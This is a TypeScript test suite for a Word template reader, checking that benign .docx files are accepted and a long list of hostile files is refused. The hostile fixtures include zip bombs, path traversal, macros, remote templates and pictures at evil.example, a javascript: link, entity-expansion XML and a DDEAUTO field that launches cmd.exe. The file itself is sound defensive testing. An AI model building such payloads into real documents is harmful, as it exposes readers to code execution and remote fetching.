import { zipSync } from 'fflate';
import { describe, expect, it } from 'vitest';
import { sampleDocument } from '../testing/sample-document';
import { textPart } from '../writers/archive/repacked';
import { writeDocx } from '../writers/docx/write-docx';
import { readWordTemplate } from './read-template';
import { changed, documentOf, paragraph, rels, row, run, types, type RawParts, withBody, WORD_TYPE, wordFile } from './word-file.fixture';
import type { WordFaultCode } from './word-fault';

const verdict = async (bytes: Uint8Array): Promise<readonly string[]> => {
  const read = await readWordTemplate(bytes);
  return read.ok ? ['taken'] : read.error.map(({ code, part }) => (part === '' ? code : `${code} ${part}`));
};
const DOC = 'word/document.xml';
const DOC_RELS = 'word/_rels/document.xml.rels';
const TYPES = '[Content_Types].xml';
const field = (...pieces: readonly string[]): string =>
  paragraph('<w:r><w:fldChar w:fldCharType="begin"/></w:r>', ...pieces.map((piece) => `<w:r><w:instrText>${piece}</w:instrText></w:r>`), '<w:r><w:fldChar w:fldCharType="end"/></w:r>');
const mapped = (text: string): Uint8Array => Uint8Array.from(text, (letter) => letter.charCodeAt(0));
const bomb = (size: number): Uint8Array => new Uint8Array(size).fill(0x20);
const many = (count: number): string => `<a>${Array.from({ length: count }, (_, at) => `<b c="${at}"/>`).join('')}</a>`;
const external = (type: string, target: string): RawParts => ({ [DOC_RELS]: rels([type, target, 'External']) });

describe('a person\'s own Word file', () => {
  it('is taken with its places: fields, also where Word tore them, and tables with their columns', async () => {
    expect(await readWordTemplate(wordFile())).toEqual({ ok: true, value: { tags: [
      { kind: 'field', name: 'unit' }, { kind: 'field', name: 'period' }, { kind: 'field', name: 'dossiers-received|.|-1|number' }, { kind: 'table', name: 'fields', columns: ['name', 'count'] },
    ] } });
  });

  it('is taken with headers, links of the web, fields that count pages, and pictures', async () => {
    const png = Uint8Array.of(0x89, 0x50, 0x4e, 0x47, 13, 10, 26, 10);
    const file = withBody(field(' PAGE ', ' \\* MERGEFORMAT') + field('HYPERLINK \\l "_Toc1" \\h') + paragraph(run('{{place}}')), {
      [TYPES]: types(['word/header1.xml', `${WORD_TYPE}.header+xml`]), 'word/header1.xml': documentOf(paragraph(run('{{unit.upper}}'))), 'word/media/a.png': png,
      [DOC_RELS]: rels(['header', 'header1.xml'], ['image', 'media/a.png'], ['hyperlink', 'https://nghean.gov.vn/', 'External'], ['hyperlink', 'mailto:a@b.vn', 'External']),
    });
    expect(await readWordTemplate(file)).toMatchObject({ ok: true, value: { tags: [{ name: 'place' }, { name: 'unit.upper' }] } });
  });

  it('may be a report that was written here, once its drawings of an open kind are gone', async () => {
    const PNG = Uint8Array.of(0x89, 0x50, 0x4e, 0x47);
    const plain = { ...sampleDocument, sections: sampleDocument.sections.map((section) => ({ ...section, blocks: section.blocks.filter(({ kind }) => kind !== 'chart' && kind !== 'picture') })) };
    expect(await verdict(await writeDocx(plain, { png: () => Promise.resolve(PNG) }))).toEqual(['taken']);
  });
});

/** What each hostile file is, how it is made and why it is refused. */
const HOSTILE: readonly (readonly [what: string, make: () => Uint8Array, ...why: string[]])[] = [
  ['no archive', () => textPart('PK, but not really an archive at all'), 'not-an-archive'],
  ['nothing', () => new Uint8Array(), 'not-an-archive'],
  ['an archive with words behind it', () => Uint8Array.of(...wordFile(), 1, 2, 3), 'not-an-archive'],
  ['two archives, one behind the other', () => Uint8Array.of(...wordFile(), ...wordFile()), 'not-an-archive'],
  ['a file too large', () => new Uint8Array(10_000_001), 'too-large'],
  ['too many parts', () => wordFile(Object.fromEntries(Array.from({ length: 300 }, (_, at) => [`word/p${at}.xml`, '<a/>']))), 'too-large'],
  ['a part that unpacks a thousandfold', () => wordFile({ 'word/big.xml': bomb(9_000_000) }), 'too-large word/big.xml'],
  ['a part larger than any', () => wordFile({ 'word/big.xml': bomb(10_000_001) }), 'too-large word/big.xml'],
  ['a part that says it is small and is not', () => changed(wordFile({ 'a.xml': bomb(5_000_000) }), (view, places) => { const at = places.at(-1)?.central ?? 0; view.setUint32(at + 24, 100, true); }), 'bad-entry a.xml'],
  ['a part that says it is longer than it is', () => changed(wordFile({ 'a.xml': '<a/>' }), (view, places) => { const at = places.at(-1)?.central ?? 0; view.setUint32(at + 24, 5000, true); }), 'bad-entry a.xml'],
  ['parts that lie over each other', () => changed(wordFile({ 'a.xml': textPart('<a>'.repeat(20)), 'b.xml': textPart('<a>'.repeat(20)) }), (view, places) => {
    const [a, b] = [places.at(-2), places.at(-1)];
    if (a && b) { view.setUint32(b.central + 42, a.local, true); view.setUint8(a.local + 30, 'b'.charCodeAt(0)); view.setUint8(a.central + 46, 'b'.charCodeAt(0)); }
  }), 'duplicate b.xml'],
  ['a part within another part', () => {
    const inner = zipSync({ 'b.xml': [textPart('<b/>'), { level: 0 }] });
    const file = zipSync({ [TYPES]: textPart(types()), 'a.xml': [Uint8Array.of(0x20, ...inner.subarray(0, 39)), { level: 0 }], 'b.xml': [textPart('<b/>'), { level: 0 }] });
    return changed(file, (view, places) => view.setUint32((places[2]?.central ?? 0) + 42, (places[1]?.local ?? 0) + 36, true));
  }, 'bad-entry b.xml'],
  ['an encrypted part', () => changed(wordFile(), (view, places) => view.setUint16((places[0]?.central ?? 0) + 8, 1, true)), `bad-entry ${TYPES}`],
  ['an unknown way of packing', () => changed(wordFile(), (view, places) => view.setUint16((places[0]?.central ?? 0) + 10, 14, true)), `bad-entry ${TYPES}`],
  ['a directory that names another part than stands there', () => changed(wordFile(), (view, places) => view.setUint8((places[2]?.local ?? 0) + 30, 'x'.charCodeAt(0))), `bad-entry ${DOC}`],
  ['bytes that are not those of the checksum', () => changed(wordFile(), (view, places) => view.setUint32((places[2]?.central ?? 0) + 16, 1, true)), `bad-entry ${DOC}`],
  ['a count of parts that is too low', () => changed(wordFile(), (view) => { view.setUint16(view.byteLength - 14, 2, true); view.setUint16(view.byteLength - 12, 2, true); }), 'bad-entry'],
  ['a path out of the folder', () => wordFile({ '../evil.xml': '<a/>' }), 'bad-path ../evil.xml'],
  ['a path from the root', () => wordFile({ '/etc/passwd': 'x' }), 'bad-path /etc/passwd'],
  ['a path of Windows', () => wordFile({ 'word\\evil.xml': '<a/>' }), 'bad-path word\\evil.xml'],
  ['a path with a drive', () => wordFile({ 'C:evil.xml': '<a/>' }), 'bad-path C:evil.xml'],
  ['a path with a letter of no width', () => wordFile({ 'word/a\u200b.xml': '<a/>' }), 'bad-path word/a·.xml'],
  ['one part twice in other letters', () => wordFile({ 'word/Document.xml': '<a/>' }), 'duplicate word/Document.xml'],
  ['an archive within', () => wordFile({ 'word/media/a.png': zipSync({ a: bomb(10) }) }), 'nested word/media/a.png'],
  ['a workbook within', () => wordFile({ [TYPES]: types(['word/embeddings/a.xlsx', 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet']), 'word/embeddings/a.xlsx': 'x' }), 'embedded word/embeddings/a.xlsx'],
  ['macros', () => wordFile({ 'word/vbaProject.bin': 'x' }), 'macros word/vbaProject.bin'],
  ['macros of another name', () => wordFile({ [TYPES]: types(['word/a.bin', 'application/vnd.ms-office.vbaProject']), 'word/a.bin': 'x' }), `macros ${TYPES}`],
  ['a file of the kind that holds macros', () => wordFile({ [TYPES]: types().replace(`${WORD_TYPE}.document.main+xml`, 'application/vnd.ms-word.document.macroEnabled.main+xml') }), `macros ${TYPES}`],
  ['a control', () => wordFile({ 'word/activeX/activeX1.xml': '<a/>' }), 'macros word/activeX/activeX1.xml'],
  ['an object of another program', () => wordFile({ [TYPES]: types(['word/embeddings/o.bin', 'application/vnd.openxmlformats-officedocument.oleObject']), 'word/embeddings/o.bin': 'x' }), 'embedded word/embeddings/o.bin'],
  ['an object that calls itself a picture', () => wordFile({ 'word/media/a.png': Uint8Array.of(0xd0, 0xcf, 0x11, 0xe0) }), 'embedded word/media/a.png'],
  ['a web page that calls itself a picture', () => wordFile({ 'word/media/a.png': '<html>' }), 'bad-picture word/media/a.png'],
  ['a program', () => wordFile({ 'word/a.exe': 'MZ' }), 'part-not-allowed word/a.exe'],
  ['a drawing that may hold programs', () => wordFile({ [TYPES]: types(['word/media/a.svg', 'image/svg+xml']), 'word/media/a.svg': '<svg/>' }), 'part-not-allowed word/media/a.svg'],
  ['a template elsewhere', () => wordFile({ 'word/settings.xml': documentOf(''), [TYPES]: types(['word/settings.xml', `${WORD_TYPE}.settings+xml`]), 'word/_rels/settings.xml.rels': rels(['attachedTemplate', 'https://evil.example/t.dotm', 'External']) }), 'outside word/_rels/settings.xml.rels'],
  ['a picture elsewhere', () => wordFile(external('image', 'https://evil.example/a.png')), `outside ${DOC_RELS}`],
  ['a link to a share of the network', () => wordFile(external('hyperlink', 'file://evil/share/a')), `outside ${DOC_RELS}`],
  ['a link that is a program', () => wordFile(external('hyperlink', 'javascript:alert(1)')), `outside ${DOC_RELS}`],
  ['an object elsewhere', () => wordFile(external('oleObject', 'https://evil.example/o')), `outside ${DOC_RELS}`],
  ['a relationship out of the file', () => wordFile({ [DOC_RELS]: rels(['image', '../../../etc/passwd']) }), `missing-part ${DOC_RELS}`],
  ['a relationship to the web that says it is within', () => wordFile({ [DOC_RELS]: rels(['image', 'https://evil.example/a.png']) }), `missing-part ${DOC_RELS}`],
  ['a relationship of an unknown kind', () => wordFile({ [DOC_RELS]: rels(['aFChunk', 'document.xml']) }), `part-not-allowed ${DOC_RELS}`],
  ['relationships of nothing', () => wordFile({ 'word/_rels/none.xml.rels': rels() }), 'bad-path word/_rels/none.xml.rels'],
  ['a picture that fetches itself', () => withBody(paragraph('<w:r><w:pict><v:shape><v:imagedata src="https://evil.example/a.png"/></v:shape></w:pict></w:r>')), `outside ${DOC}`],
  ['another document within', () => withBody('<w:altChunk r:id="r1"/>'), `element-not-allowed ${DOC}`],
  ['an object in the text', () => withBody(paragraph('<w:r><w:object><o:OLEObject/></w:object></w:r>')), `element-not-allowed ${DOC}`, `element-not-allowed ${DOC}`],
  ['a document type', () => wordFile({ [DOC]: '<!DOCTYPE a [<!ENTITY x "y">]><a>&x;</a>' }), `bad-xml ${DOC}`],
  ['a document type of entities of entities', () => wordFile({ [TYPES]: '<!DOCTYPE a [<!ENTITY a "aa"><!ENTITY b "&a;&a;">]><a>&b;</a>' }), `bad-xml ${TYPES}`],
  ['an entity nobody declared', () => withBody(paragraph(run('&x;'))), `bad-xml ${DOC}`],
  ['XML that is none', () => withBody('<w:p>'), `bad-xml ${DOC}`],
  ['XML deeper than any', () => withBody('<w:p>'.repeat(150) + '</w:p>'.repeat(150)), `bad-xml ${DOC}`],
  ['more elements than anybody writes, over two parts', () => wordFile({ 'word/a.xml': many(55_000), 'word/c.xml': many(55_000) }), 'bad-xml word/c.xml'],
  ['another encoding', () => wordFile({ [DOC]: mapped('\xff\xfe<\0a\0/\0>\0') }), `bad-xml ${DOC}`],
  ['a field that starts a program', () => withBody(field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"')), `field-not-allowed ${DOC}`],
  ['such a field in pieces, each of them harmless', () => withBody(field('INCLUDE', 'TEXT https://evil.example/', 'PAGE')), `field-not-allowed ${DOC}`],
  ['a field that fetches a picture', () => withBody(paragraph('<w:fldSimple w:instr="INCLUDEPICTURE https://evil.example/a.png"/>')), `field-not-allowed ${DOC}`],
  ['such a field within another', () => withBody(paragraph('<w:r><w:fldChar w:fldCharType="begin"/><w:instrText>PAGE</w:instrText><w:fldChar w:fldCharType="begin"/><w:instrText>INCLUDETEXT x</w:instrText><w:fldChar w:fldCharType="end"/><w:fldChar w:fldCharType="end"/></w:r>')), `field-not-allowed ${DOC}`],
  ['a field that links to the outside', () => withBody(field('HYPERLINK "\\\\\\\\evil\\\\share"')), `field-not-allowed ${DOC}`],
  ['no types', () => wordFile({ [TYPES]: null }), `not-an-archive ${TYPES}`],
  ['types that contradict', () => wordFile({ [TYPES]: types([DOC, 'text/html']) }), `duplicate ${TYPES}`],
  ['no document', () => wordFile({ [DOC]: null }), 'missing-part _rels/.rels', `missing-part ${TYPES}`],
  ['a workbook', () => wordFile({ [TYPES]: types().replace(`${WORD_TYPE}.document.main+xml`, 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml') }), `part-not-allowed ${DOC}`, `missing-part ${TYPES}`],
];

describe('a file that means harm, or is broken', () => {
  it.each(HOSTILE.map(([what, make, ...why]) => ({ what, make, why })))('is refused by part and reason: $what', async ({ make, why }) => {
    expect(await verdict(make())).toEqual(why);
  });

  it('says nothing unprintable and nothing long of what it holds', async () => {
    const read = await readWordTemplate(wordFile(external('image', `https://${'x'.repeat(500)}&#9;`)));
    expect(read.ok ? '' : read.error[0]?.got).toMatch(/^image https:\/\/x{60,70}$/);
  });
});

describe('places that cannot be filled', () => {
  const cases: readonly (readonly [what: string, body: string, code: WordFaultCode])[] = [
    ['braces that are not closed', paragraph(run('{{unit')), 'bad-placeholder'],
    ['braces closed in another paragraph', paragraph(run('{{unit')) + paragraph(run('}}')), 'bad-placeholder'],
    ['braces that are not opened', paragraph(run('unit}}')), 'bad-placeholder'],
    ['an unknown format', paragraph(run('{{a|.|.|zigzag}}')), 'bad-placeholder'],
    ['options of the library', paragraph(run('{{unit[loopOver: "row"]}}')), 'bad-placeholder'],
    ['nothing in the braces', paragraph(run('{{ }}')), 'bad-placeholder'],
    ['a table that is not closed', `<w:tbl>${row('{{#a}}{{b}}')}</w:tbl>`, 'bad-loop'],
    ['a table that was not opened', paragraph(run('{{/a}}')), 'bad-loop'],
    ['a table within a table', `<w:tbl>${row('{{#a}}{{#a}}{{b}}{{/a}}{{/a}}')}</w:tbl>`, 'bad-loop'],
    ['a table named as what every object has', `<w:tbl>${row('{{#__proto__}}{{b}}{{/__proto__}}')}</w:tbl>`, 'bad-loop'],
  ];
  it('are told where nothing is filled: in notes below the text', async () => {
    const file = wordFile({ [TYPES]: types(['word/footnotes.xml', `${WORD_TYPE}.footnotes+xml`]), 'word/footnotes.xml': documentOf(paragraph(run('{{unit}}'))) });
    expect(await verdict(file)).toEqual(['bad-placeholder word/footnotes.xml']);
  });

  it.each(cases)('are told: %s', async (_, body, code) => {
    const read = await readWordTemplate(withBody(body));
    expect(read.ok ? [] : new Set(read.error.map((each) => each.code))).toEqual(new Set([code]));
  });
});
